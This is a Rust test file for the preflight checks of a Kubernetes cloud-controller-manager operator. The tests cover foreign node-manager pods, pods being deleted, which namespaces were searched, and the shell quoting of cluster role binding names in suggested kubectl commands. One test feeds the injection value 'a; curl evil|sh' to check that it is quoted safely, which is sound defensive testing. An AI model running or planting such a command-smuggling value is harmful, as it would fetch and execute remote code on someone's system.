//! Foreign programs: node managers, pods that are being deleted, unread locations, and the names of bindings.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::json;

use super::{Fixture, aws, azure, lease, leaving};
use crate::{
    api::spec::OnByDefault,
    facts::ccm::Ccm,
    nodes::{evidence::Lease, node::Ready},
    preflight::{
        check::{Check, CheckResult, Row, summary},
        pods::ObservedPod,
    },
    provider::embedded,
};

const NODE: &str = "ip-10-0-0-1.ec2.internal";

fn row(fixture: &Fixture, check: Check) -> Row {
    fixture.rows().into_iter().find(|row| row.check == check).unwrap()
}

/// Returns a pod of the node manager that Azure publishes for this operating system.
fn published(system: &str) -> Option<ObservedPod> {
    let container = json!({
        "name": "cloud-node-manager", "image": "mcr.microsoft.com/oss/kubernetes/azure-cloud-node-manager:v1.28.0",
        "command": ["cloud-node-manager", "--node-name=$(NODE_NAME)", "--wait-routes=true"],
    });
    let is_on_host = system == "linux";
    let live = json!({
        "metadata": {"name": "cloud-node-manager-x", "namespace": "kube-system", "labels": {"k8s-app": "cloud-node-manager"}},
        "spec": {
            "hostNetwork": is_on_host, "nodeName": NODE, "nodeSelector": {"kubernetes.io/os": system},
            "serviceAccountName": "cloud-node-manager", "tolerations": [{"operator": "Exists"}], "containers": [container],
        },
    });
    ObservedPod::of(&live, &embedded::catalog().unwrap())
}

/// Returns a node manager pod of the `CloudControllerManager` with this name.
fn of_ccm(name: &str) -> ObservedPod {
    let label = |key: &str, value: &str| (format!("app.kubernetes.io/{key}"), value.to_owned());
    let labels = BTreeMap::from([label("name", "azure-cloud-node-manager"), label("instance", name)]);
    ObservedPod { labels, ..published("linux").unwrap() }
}

#[test]
fn a_node_manager_of_somebody_else_is_refused_and_our_own_is_not() {
    let other = |mut fixture: Fixture, pod: Option<ObservedPod>| {
        fixture.snapshot.pods = pod.into_iter().collect();
        let row = row(&fixture, Check::OtherCcm);
        (row.result, row.message)
    };
    let refused = (CheckResult::Refused, "pod kube-system/cloud-node-manager-x runs cloudNode".to_owned());
    assert_eq!(other(azure(), published("linux")), refused);
    assert_eq!(other(aws(), published("linux")), refused, "whatever the cloud is");
    assert_eq!(other(azure(), published("windows")).0, CheckResult::Passed, "ours is on no node of Windows");
    let mut without = azure();
    without.ccm.spec.controllers.cloud_node = OnByDefault::Disabled;
    assert_eq!(other(without, published("linux")).0, CheckResult::Passed);

    assert_eq!(other(azure(), Some(of_ccm("cluster"))).0, CheckResult::Passed);
    assert_eq!(other(azure(), Some(of_ccm("second"))), refused, "what is left of another one");
    let mut beside = aws();
    beside.others.push((Ccm { name: "second".to_owned(), ..azure().ccm }, false, None));
    assert_eq!(other(beside, Some(of_ccm("second"))).0, CheckResult::Passed);
}

#[test]
fn a_node_manager_hides_no_leader_on_its_node() {
    let mut fixture = aws();
    fixture.snapshot.pods = vec![published("linux").unwrap()];
    let holder = "ip-10-0-0-1_1".to_owned();
    fixture.snapshot.leases = vec![Lease { holder, ..lease("cloud-controller-manager", "2026-01-01T00:01:00Z") }];
    let row = row(&fixture, Check::OtherCcm);
    assert!(
        row.message.contains("the holder ip-10-0-0-1_1 of the lease kube-system/cloud-controller-manager"),
        "{row:?}"
    );
}

#[test]
fn a_pod_that_is_being_deleted_may_act_as_long_as_its_kubelet_reports() {
    for (status, lacks_network, expected) in [
        ("True", false, CheckResult::Refused),
        // Only pods on the pod network wait for the network plugin.
        ("False", true, CheckResult::Refused),
        ("False", false, CheckResult::Refused),
        ("Unknown", false, CheckResult::Warned),
    ] {
        let mut fixture = aws();
        fixture.nodes()[0].ready = Some(Ready { status: status.to_owned(), lacks_network, ..Ready::default() });
        fixture.snapshot.pods = vec![leaving(NODE)];
        let row = row(&fixture, Check::OtherCcm);
        assert_eq!(row.result, expected, "{status}: {row:?}");
        assert_eq!(row.fix.contains("its Node"), row.fix.contains("is removed from etcd with its Node"), "{row:?}");
        assert_eq!(row.fix.contains("delete the pod by force"), expected == CheckResult::Warned, "{row:?}");
    }
}

#[test]
fn where_none_was_found_is_said() {
    for (places, message) in [
        (&["clouds", "kube-system"][..], "none in clouds, kube-system; no other namespace was looked at"),
        (&[""], "none in any namespace"),
    ] {
        let mut fixture = aws();
        fixture.snapshot.places = places.iter().map(|place| (*place).to_owned()).collect::<BTreeSet<_>>();
        assert_eq!(row(&fixture, Check::OtherCcm).message, message);
        let (status, _, text) = summary(&fixture.rows());
        assert!(status == "True" && text.ends_with(&format!("; other-ccm: {message}")), "{text}");
    }
}

#[test]
fn names_of_others_are_words_of_the_command_and_a_group_is_named() {
    for (bindings, command) in [
        (&["free", "other"][..], "kubectl delete clusterrolebinding free other"),
        (&["a; curl evil|sh", "it's"], r"kubectl delete clusterrolebinding 'a; curl evil|sh' 'it'\''s'"),
        (&["--all"], "kubectl delete clusterrolebinding -- --all"),
        (
            &["b/system:authenticated", "c"],
            "kubectl delete clusterrolebinding b c, which takes the permission from everyone in the group system:authenticated",
        ),
    ] {
        let mut fixture = aws();
        fixture.deletion_permission = Ok(Some(bindings.iter().map(|name| (*name).to_owned()).collect()));
        let row = row(&fixture, Check::DeletionPermission);
        assert_eq!(row.fix, format!("{command}; the operator grants it what it needs"));
        assert!(!row.message.contains('/'), "{row:?}");
    }
}
